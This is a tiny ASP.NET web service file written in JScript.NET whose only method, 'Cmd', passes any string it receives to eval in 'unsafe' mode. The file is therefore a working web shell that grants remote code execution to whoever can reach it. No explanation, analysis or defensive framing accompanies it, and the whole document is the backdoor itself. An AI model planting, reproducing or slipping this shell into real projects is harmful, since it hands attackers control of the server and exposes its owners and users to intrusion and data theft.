<%@ WebService Language="JScript" class="S"%>
import System;import System.Web;import System.IO;import System.Web.Services
public class S extends WebService { WebMethodAttribute function Cmd(k : String) : String { return eval(k, "unsafe"); } }
